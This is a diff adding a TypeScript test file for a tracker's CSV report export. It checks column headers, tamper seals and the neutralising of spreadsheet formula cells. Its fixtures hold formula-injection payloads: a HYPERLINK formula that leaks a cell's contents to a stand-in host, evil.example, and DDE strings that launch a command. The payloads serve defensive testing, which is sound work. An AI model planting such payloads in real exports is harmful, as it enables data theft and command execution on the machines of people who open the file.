@@ -1,0 +1,125 @@
+/**
+ * The CSV export (issue 7 §2, §5): one row per item, header names from DESIGN, every cell that a
+ * spreadsheet would run as a formula neutralised, and a seal that a changed figure breaks.
+ */
+import { stringify } from "csv-stringify/sync";
+import fc from "fast-check";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { importBundle } from "@/db/import-bundle";
+import { openDatabase, type Db } from "@/db/index";
+import { getWeeklyReport } from "@/db/queries/get-weekly-report";
+import { readReportFile } from "@/lib/report/read-report-file";
+import { parseCsv, readCsvSeal, renderReportCsv, REPORT_CSV_COLUMNS } from "@/lib/report/render-csv";
+
+const NOW = Date.parse("2026-11-27T08:00:00Z");
+
+/** Stored text that a spreadsheet would otherwise run: every trigger character of OWASP's list. */
+const HOSTILE = {
+  title: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+  area: "+cmd|' /C calc'!A0",
+  team: "-2+3",
+  ownerName: "@SUM(1+1)*cmd|' /C calc'!A0",
+  tab: "\t=1+1",
+  cr: "\r=1+1",
+};
+
+function hostileBundle(slug: string) {
+  const people = [
+    { email: "eve@example.com", name: HOSTILE.ownerName, team: HOSTILE.team },
+    { email: "rev@example.com", name: "Reviewer", team: "" },
+  ];
+  return {
+    format: "offload-tracker/v1",
+    program: { slug, name: "=Program" },
+    people,
+    items: [
+      { key: "X1", title: HOSTILE.title, area: HOSTILE.area, owner: "eve@example.com", team: HOSTILE.team, estimateWeeks: 2, identifiedAt: "2024-01-01" },
+      { key: "X2", title: `Line one\nline two, "quoted"`, area: "Plain", owner: null, team: "", estimateWeeks: 1.5, identifiedAt: "2024-01-01", dependsOn: ["X1"] },
+      { key: "X3", title: `ok ${HOSTILE.tab}`, area: "Plain", owner: null, team: "", estimateWeeks: 1, identifiedAt: "2024-01-01" },
+    ],
+  };
+}
+
+let db: Db;
+beforeAll(() => {
+  db = openDatabase(":memory:");
+  importBundle(db, hostileBundle("csv-hostile"), { actor: null });
+});
+afterAll(() => db.$client.close());
+
+const csvOf = (week = "2024-W52") => renderReportCsv(getWeeklyReport(db, "csv-hostile", week, NOW).report);
+
+describe("report CSV", () => {
+  it("has DESIGN's header names and one row per item", () => {
+    const [header, ...rows] = parseCsv(csvOf());
+    expect(header).toEqual([...REPORT_CSV_COLUMNS]);
+    expect(header!.slice(0, 10)).toEqual(["key", "title", "area", "owner", "ownerName", "team", "estimateWeeks", "trueStatus", "reportedStatus", "blocked"]);
+    expect(rows.map((r) => r[0])).toEqual(["X1", "X2", "X3"]);
+    expect(rows.every((r) => r.length === REPORT_CSV_COLUMNS.length)).toBe(true);
+  });
+
+  it("neutralises cells that begin with = + - @ tab or CR", () => {
+    const text = csvOf();
+    const [header, x1] = parseCsv(text);
+    const cell = (name: string) => x1![header!.indexOf(name)]!;
+    expect(cell("title")).toBe(`'${HOSTILE.title}`);
+    expect(cell("area")).toBe(`'${HOSTILE.area}`);
+    expect(cell("team")).toBe(`'${HOSTILE.team}`);
+    expect(cell("ownerName")).toBe(`'${HOSTILE.ownerName}`);
+    for (const row of parseCsv(text)) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it("neutralises every hostile cell, whatever its text (property)", () => {
+    fc.assert(
+      fc.property(fc.constantFrom("=", "+", "-", "@", "\t", "\r"), fc.string({ maxLength: 20 }), (lead, rest) => {
+        const local = openDatabase(":memory:");
+        try {
+          const b = hostileBundle("csv-prop");
+          b.items[0]!.title = `${lead}${rest}`.trim() === "" ? `${lead}x` : `${lead}${rest}x`;
+          b.items[0]!.area = `${lead}area`;
+          importBundle(local, b, { actor: null });
+          const rows = parseCsv(renderReportCsv(getWeeklyReport(local, "csv-prop", "2024-W52", NOW).report));
+          for (const row of rows) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+        } finally {
+          local.$client.close();
+        }
+      }),
+      { numRuns: 25 },
+    );
+  });
+
+  it("keeps a stored line break inside its row", () => {
+    const rows = parseCsv(csvOf());
+    expect(rows).toHaveLength(4);
+    expect(rows[2]![1]).toBe(`Line one line two, "quoted"`);
+  });
+
+  it("carries program, week, log head and its own digest on every row", () => {
+    const seal = readCsvSeal(csvOf())!;
+    expect(seal).toMatchObject({ program: "csv-hostile", week: "2024-W52", consistent: true });
+    expect(seal.sha256).toBe(seal.computed);
+    expect(seal.logHeadAtCutoff).toMatch(/^[0-9a-f]{64}$/);
+  });
+
+  it("a changed figure breaks the seal", () => {
+    const text = csvOf();
+    const changed = text.replace(/,2,not_started,/, ",3,not_started,");
+    expect(changed).not.toBe(text);
+    const seal = readReportFile(changed)!;
+    expect(seal.format).toBe("csv");
+    expect(seal.sealIntact).toBe(false);
+    expect(readReportFile(text)!.sealIntact).toBe(true);
+  });
+
+  it("parses what csv-stringify writes, back to the same cells (property)", () => {
+    fc.assert(
+      fc.property(fc.array(fc.array(fc.string({ unit: fc.constantFrom("a", ",", '"', "\r\n", " ", "é", "'") }), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
+        const width = rows[0]!.length;
+        const rect = rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ""));
+        // A lone empty cell on a line is an empty line: give every row a non-empty first cell.
+        const safe = rect.map((r) => ["k", ...r]);
+        expect(parseCsv(stringify(safe, { record_delimiter: "\r\n", quoted_match: /\r|\n/ }))).toEqual(safe);
+      }),
+    );
+  });
+});
